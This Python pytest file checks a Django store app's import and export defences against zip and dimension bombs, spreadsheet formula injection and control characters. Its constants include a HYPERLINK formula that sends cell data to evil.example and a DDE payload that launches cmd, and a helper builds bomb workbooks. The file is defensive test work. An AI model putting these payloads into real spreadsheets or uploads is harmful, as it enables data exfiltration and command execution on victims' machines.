"""Import and export of master data against hostile files and stored text (issue 8, S3-S5):
dimension and zip bombs are refused before parsing, exports never hold a formula, and a control
character can neither be stored nor break an export."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from storeledger.catalog.models import Brand
from storeledger.core import tabular
from storeledger.partners.models import Supplier
from storeledger.testing import factories

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_file(rows, name="rows.csv"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8-sig"), content_type="text/csv")


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def raw_xlsx(sheet_data: str, dimension: str | None = None, padding: int = 0) -> bytes:
    """A minimal workbook written by hand, so it can declare what openpyxl would not write."""
    dimension_tag = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dimension_tag}<sheetData>{sheet_data}</sheetData></worksheet>"
    )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="brands" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    if padding:
        files["xl/padding.xml"] = " " * padding
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


HEADER_ROW = '<row r="1">' + _cell("A1", "code") + _cell("B1", "name") + "</row>"


def upload(content: bytes, name="brands.xlsx"):
    return SimpleUploadedFile(name, content)


# ---------------------------------------------------------------- S3: import bombs


@pytest.mark.django_db
def test_a_handwritten_workbook_imports(client_for, buyer):
    rows = HEADER_ROW + '<row r="2">' + _cell("A2", "B1") + _cell("B2", "康师傅") + "</row>"
    response = client_for(buyer).post("/api/v1/brands/import/", {"file": upload(raw_xlsx(rows))})
    assert response.status_code == 200, response.json()
    assert Brand.objects.get(code="B1").name == "康师傅"


@pytest.mark.django_db
@pytest.mark.parametrize("dimension", ["A1:B200000", "A1:XFD3"])
def test_declared_sheet_size_is_refused_before_parsing(client_for, buyer, dimension):
    rows = HEADER_ROW + '<row r="2">' + _cell("A2", "B1") + _cell("B2", "x") + "</row>"
    response = client_for(buyer).post(
        "/api/v1/brands/import/", {"file": upload(raw_xlsx(rows, dimension))}
    )
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "sheet_too_large"
    assert body["details"] == {"max_rows": tabular.MAX_ROWS, "max_columns": tabular.MAX_COLUMNS}
    assert Brand.objects.count() == 0


@pytest.mark.django_db
def test_a_far_away_row_without_dimension_stops_at_the_row_limit(client_for, buyer):
    rows = HEADER_ROW + '<row r="1048576">' + _cell("A1048576", "Z") + "</row>"
    response = client_for(buyer).post("/api/v1/brands/import/", {"file": upload(raw_xlsx(rows))})
    assert response.status_code == 400
    assert response.json()["code"] == "too_many_rows"
    assert Brand.objects.count() == 0


@pytest.mark.django_db
def test_unpacked_size_is_checked(client_for, buyer, monkeypatch):
    monkeypatch.setattr(tabular, "MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
    rows = HEADER_ROW + '<row r="2">' + _cell("A2", "B1") + _cell("B2", "x") + "</row>"
    content = raw_xlsx(rows, padding=2 * 1024 * 1024)
    assert len(content) < 20 * 1024
    response = client_for(buyer).post("/api/v1/brands/import/", {"file": upload(content)})
    assert response.status_code == 400
    assert response.json()["code"] == "file_too_large"
    assert Brand.objects.count() == 0


@pytest.mark.django_db
def test_announced_upload_size_is_refused_before_reading(client_for, buyer):
    response = client_for(buyer).post(
        "/api/v1/brands/import/",
        {"file": csv_file([["code", "name"], ["B1", "x"]])},
        CONTENT_LENGTH=str(21 * 1024 * 1024),
    )
    assert response.status_code == 400
    assert response.json()["code"] == "file_too_large"
    assert Brand.objects.count() == 0


# ---------------------------------------------------------------- S4: formula injection


@pytest.mark.django_db
def test_exports_hold_no_formula_and_round_trip(client_for, buyer):
    factories.sku(code="FX1", name=FORMULA)
    Supplier.objects.create(code="S1", name=DDE, contact="-2+3")
    Brand.objects.create(code="+B", name="@brand")
    client = client_for(buyer)
    for url in ("/api/v1/skus/export/", "/api/v1/suppliers/export/", "/api/v1/brands/export/"):
        rows = read_csv(client.get(url, {"format": "csv"}))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], (url, cells)
        sheet = load_workbook(io.BytesIO(client.get(url).content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (url, cell.coordinate, cell.value)
                assert cell.data_type != "f"
    sku_rows = read_csv(client.get("/api/v1/skus/export/", {"format": "csv"}))
    assert sku_rows[1][1] == "'" + FORMULA
    xlsx = load_workbook(io.BytesIO(client.get("/api/v1/skus/export/").content)).active
    assert xlsx["B2"].value == FORMULA  # text, shown as typed
    supplier_rows = read_csv(client.get("/api/v1/suppliers/export/", {"format": "csv"}))
    assert supplier_rows[1][1] == "'" + DDE

    # the escaped csv imports back to the same text
    supplier_rows[1][1] = "'" + DDE + "!"
    response = client.post("/api/v1/suppliers/import/", {"file": csv_file(supplier_rows)})
    assert response.status_code == 200, response.json()
    assert Supplier.objects.get(code="S1").name == DDE + "!"


# ---------------------------------------------------------------- S5: control characters


@pytest.mark.django_db
def test_a_stored_control_character_does_not_break_exports(client_for, buyer, cashier):
    Brand.objects.create(code="VT01", name="bad\x0bname\x01")  # stored before the fix
    client = client_for(cashier)
    xlsx = client.get("/api/v1/brands/export/")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert [c.value for c in sheet[2]] == ["VT01", "badname"]
    rows = read_csv(client.get("/api/v1/brands/export/", {"format": "csv"}))
    assert rows[1] == ["VT01", "badname"]


@pytest.mark.django_db
def test_control_characters_are_cleaned_on_input(client_for, buyer):
    client = client_for(buyer)
    created = client.post(
        "/api/v1/brands/", {"code": "VT\x0202", "name": "a\x0bb\tc"}, format="json"
    )
    assert created.status_code == 201, created.json()
    assert Brand.objects.get(code="VT02").name == "ab\tc"
    response = client.post(
        "/api/v1/brands/import/", {"file": csv_file([["code", "name"], ["VT03", "x\x1by"]])}
    )
    assert response.status_code == 200, response.json()
    assert Brand.objects.get(code="VT03").name == "xy"
